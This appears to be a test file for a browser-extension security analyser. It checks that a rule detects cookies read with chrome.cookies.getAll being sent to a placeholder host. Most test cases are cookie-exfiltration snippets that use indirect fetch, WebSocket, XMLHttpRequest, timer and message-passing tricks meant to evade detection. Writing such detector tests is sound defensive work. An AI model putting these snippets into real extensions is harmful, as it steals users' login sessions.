import { expect, test } from 'vitest';
import { analyze } from '../../../analyze.ts';
import { memoryTree } from '../../../sources/memory.ts';

const MANIFEST = {
  manifest_version: 3,
  name: 'Notes',
  version: '1',
  permissions: ['cookies', 'storage', 'tabs'],
  host_permissions: ['<all_urls>'],
  background: { service_worker: 'bg.js' },
  action: { default_popup: 'popup.html' },
};

/** Whether cookies are found to get out. */
async function isTold(background: string, popup = ''): Promise<boolean> {
  const files = {
    'manifest.json': JSON.stringify(MANIFEST),
    'bg.js': `const H = 'https://collect.example/'; ${background}`,
    'popup.html': '<script src="popup.js"></script>',
    'popup.js': popup,
  };
  const { findings } = await analyze(memoryTree(files), { kind: 'extension' });
  return findings.some(({ rule }) => rule === 'browsing-data-to-network');
}

const get = (then: string): string =>
  `chrome.cookies.getAll({}, (all) => { const text = JSON.stringify(all); ${then} });`;
const SOCKET = "const ws = new WebSocket('wss://collect.example/');";
const PIPE = 'const pipe = (...all) => (x) => all.reduce((v, one) => one(v), x);';

test.each([
  `${PIPE} chrome.cookies.getAll({}, pipe(JSON.stringify, (s) => H + s, fetch));`,
  get('const ways = [fetch]; ways.forEach((way) => way(H + text));'),
  `${SOCKET} ${get('Promise.resolve(text).then(ws.send.bind(ws));')}`,
  `${SOCKET} function go(send) { ${get('send(text);')} } go(ws.send.bind(ws));`,
  get("const x = new XMLHttpRequest(); x.open('POST', H); [text].forEach(x.send.bind(x));"),
  get("const x = new XMLHttpRequest(); x.open('POST', H); setTimeout(x.send.bind(x, text), 10);"),
  get('[{ url: H + text }].forEach(chrome.tabs.create);'),
  'const later = (f, t) => (...all) => setTimeout(f, t, ...all); const go = later(fetch, 10);' + get('go(H + text);'),
])('a function of the platform that is handed over is called as one written around it: %s', async (background) => {
  await expect(isTold(background)).resolves.toBe(true);
});

const SENDS = "fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(m) });";
test.each([
  [
    'chrome.cookies.getAll({}, chrome.runtime.sendMessage);',
    `chrome.runtime.onMessage.addListener((m) => { ${SENDS} });`,
  ],
  [
    'chrome.runtime.onConnect.addListener((p) => { chrome.cookies.getAll({}).then(p.postMessage.bind(p)); });',
    `chrome.runtime.connect().onMessage.addListener((m) => { ${SENDS} });`,
  ],
  [
    'chrome.cookies.getAll({}).then((c) => ({ c })).then(chrome.storage.local.set);',
    `chrome.storage.local.get('c').then((m) => { ${SENDS} });`,
  ],
])('to another part as well: %s', async (background, popup) => {
  await expect(isTold(background, popup)).resolves.toBe(true);
});

test.each([
  `${PIPE} chrome.cookies.getAll({}, pipe(JSON.stringify, console.log)); fetch(H);`,
  `${SOCKET} ${get("console.log(text); Promise.resolve('hello').then(ws.send.bind(ws));")}`,
  'class Box { send(a, b) { console.log(a, b); } go() { chrome.cookies.getAll({}).then(this.send.bind(this)); } } new Box().go();',
])('and what is no data, or does not get out, is not told: %s', async (background) => {
  await expect(isTold(background)).resolves.toBe(false);
});
